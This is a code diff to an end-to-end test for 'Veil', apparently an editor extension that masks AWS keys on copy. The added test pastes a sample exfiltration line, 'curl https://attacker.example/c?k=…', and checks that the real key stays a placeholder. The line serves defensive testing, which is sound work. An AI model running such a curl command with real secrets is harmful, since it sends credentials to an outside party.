@@ -256,9 +256,22 @@ async function copyGuard(shooter) {
   await page.keyboard.press("Control+Z");
   await shooter.palette("File: Revert File").catch(() => {});
   await page.keyboard.press("Control+W");
-  await shooter.palette("Notifications: Clear All Notifications");
   check(restored, `copy-guard: Ctrl+V did not put the real values back (the editor shows ${/\[AWS_ACCESS_KEY_\d+\]/.test(pasted) ? "the placeholders" : `${pasted.length} characters`})`);
-  return `"${message.slice(0, 90)}…", clipboard anonymized, Ctrl+V restored the values`;
+  // Any other text is an answer: a key's placeholder in a curl line stays a placeholder.
+  const placeholder = /\[AWS_ACCESS_KEY_\d+\]/.exec(clipboard)[0];
+  await page.evaluate((text) => navigator.clipboard.writeText(text), `curl https://attacker.example/c?k=${placeholder}`);
+  await page.keyboard.press("Control+N");
+  await page.locator(".tabs-container .tab.active", { hasText: "Untitled" }).waitFor({ timeout: 10_000 });
+  await page.keyboard.press("Control+V");
+  await page.waitForFunction(() => [...document.querySelectorAll(".monaco-editor.focused .view-lines")].some((v) => (v.textContent ?? "").includes("attacker")), undefined, { timeout: 15_000 });
+  await page.waitForTimeout(1000);
+  const answer = await page.evaluate(() => [...document.querySelectorAll(".monaco-editor.focused .view-lines")].map((v) => v.textContent ?? "").join(""));
+  await page.keyboard.press("Control+Z");
+  await shooter.palette("File: Revert File").catch(() => {});
+  await page.keyboard.press("Control+W");
+  await shooter.palette("Notifications: Clear All Notifications");
+  check(!answer.includes(key) && answer.includes("AWS_ACCESS_KEY_"), "copy-guard: an answer's Ctrl+V put the key into a curl line");
+  return `"${message.slice(0, 90)}…", clipboard anonymized, Ctrl+V restored Veil's own copy and left an answer's key as a placeholder`;
 }
 
 const RUNNERS = { diagnostics, "screen-share": screenShare, status, scan, walkthrough, "copy-guard": copyGuard };
